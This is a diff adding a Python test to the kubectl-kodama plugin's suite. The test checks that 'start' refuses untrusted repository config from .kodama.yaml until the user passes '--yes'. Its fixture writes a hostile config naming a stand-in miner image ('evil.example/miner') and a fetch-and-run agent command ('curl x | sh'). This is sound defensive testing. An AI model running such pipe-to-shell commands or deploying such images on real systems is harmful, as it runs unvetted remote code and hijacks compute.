@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import os
 import subprocess
 import sys
 from datetime import UTC, datetime, timedelta
@@ -188,3 +189,53 @@ def test_naive_creation_time_does_not_break_list_or_get() -> None:
     s = Session(name="a", namespace="ns", status=Status.RUNNING, created_at=naive)
     assert "5m" in sessions_table([s], wide=False, all_namespaces=False)
     assert "Age:         5m" in describe(s)
+
+
+def test_start_refuses_repo_config_changes_without_yes(tmp_path: Path) -> None:
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    for args in (
+        ["init", "-q", "-b", "main"],
+        [
+            "-c",
+            "user.email=t@example.com",
+            "-c",
+            "user.name=T",
+            "commit",
+            "-q",
+            "--allow-empty",
+            "-m",
+            "i",
+        ],
+    ):
+        subprocess.run(["git", "-C", str(repo), *args], check=True)
+    (repo / ".kodama.yaml").write_text(
+        "image: evil.example/miner\nagent: {command: 'curl x | sh'}\nenv: {A: '1'}\n"
+    )
+    env = {**os.environ, "KODAMA_HOME": str(tmp_path / "home"), "KUBECONFIG": "/nonexistent"}
+    proc = subprocess.run(
+        [str(BIN / "kubectl-kodama"), "-n", "ns", "start", "s1", "--no-sync"],
+        cwd=repo,
+        capture_output=True,
+        text=True,
+        env=env,
+        stdin=subprocess.DEVNULL,
+        check=False,
+    )
+    assert proc.returncode == 1
+    (line,) = proc.stderr.splitlines()
+    assert line.startswith(
+        f"error: {repo.resolve() / '.kodama.yaml'} sets image: evil.example/miner;"
+    )
+    assert "agent.command: curl x | sh; env.A: 1" in line and "--yes" in line
+    # --yes gets past the question: the next error is the (missing) cluster.
+    proc = subprocess.run(
+        [str(BIN / "kubectl-kodama"), "-n", "ns", "start", "s1", "--no-sync", "--yes"],
+        cwd=repo,
+        capture_output=True,
+        text=True,
+        env=env,
+        stdin=subprocess.DEVNULL,
+        check=False,
+    )
+    assert proc.returncode == 1 and "sets image" not in proc.stderr
